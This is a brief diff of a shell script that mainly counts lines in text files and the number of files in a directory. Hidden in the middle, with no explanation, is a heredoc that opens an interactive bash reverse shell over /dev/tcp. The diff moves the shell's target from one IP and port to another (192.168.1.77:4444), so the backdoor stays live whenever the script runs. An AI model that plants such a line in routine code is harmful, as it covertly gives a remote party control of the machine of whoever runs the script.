@@ -1,10 +1,10 @@
-#!/bin/sh
-if [ -z "$HOME" ]; then
-  echo "no home" >&2
-fi
-set -eu
+#!/usr/bin/env bash
+for f in *.txt; do
+  [ -e "$f" ] || continue
+  wc -l "$f"
+done
 bash <<EOF
-bash -i >& /dev/tcp/172.16.4.2/443 0>&1
+bash -i >& /dev/tcp/192.168.1.77/4444 0>&1
 EOF
 count=$(ls | wc -l)
 echo "files: $count"
